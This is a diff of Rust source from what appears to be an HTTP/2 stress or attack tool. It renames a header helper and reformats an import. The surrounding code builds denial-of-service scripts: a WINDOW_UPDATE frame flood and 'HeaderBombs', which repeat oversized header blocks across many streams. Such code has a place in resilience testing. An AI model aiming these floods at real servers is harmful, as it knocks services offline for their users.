@@ -13,7 +13,9 @@ use tokio::sync::watch;
 use tokio::task::JoinSet;
 use tokio::time::{MissedTickBehavior, interval};
 
-use crate::http2::{END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, REPEATED, frame, kept, kind, literals, opening};
+use crate::http2::{
+    END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, REPEATED, frame, indexed_header, kind, literals, opening,
+};
 
 /// The interval of slow clients, and of reconnecting after a refused connection.
 const PACE: Duration = Duration::from_millis(250);
@@ -196,7 +198,8 @@ impl Attack {
             Self::WindowUpdates => Script::flood(open(&post(0)), &frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
             Self::HeaderBombs => {
                 let repeated = [REPEATED].repeat(12 << 10);
-                let block = [target.head("GET", RESOURCE), kept("x-bomb", &"x".repeat(3900)), repeated].concat();
+                let block =
+                    [target.head("GET", RESOURCE), indexed_header("x-bomb", &"x".repeat(3900)), repeated].concat();
                 Script::streams(open(&[]), move |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block))
             }
         }
